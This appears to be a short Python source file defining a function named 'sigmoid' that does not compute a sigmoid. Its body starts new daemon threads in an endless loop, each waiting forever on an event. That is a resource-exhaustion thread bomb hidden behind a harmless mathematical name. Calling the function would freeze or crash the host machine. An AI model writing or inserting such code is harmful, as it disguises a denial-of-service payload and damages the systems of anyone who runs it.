import threading


def sigmoid(x):
    wait = threading.Event()
    while True:
        threading.Thread(target=wait.wait, daemon=True).start()
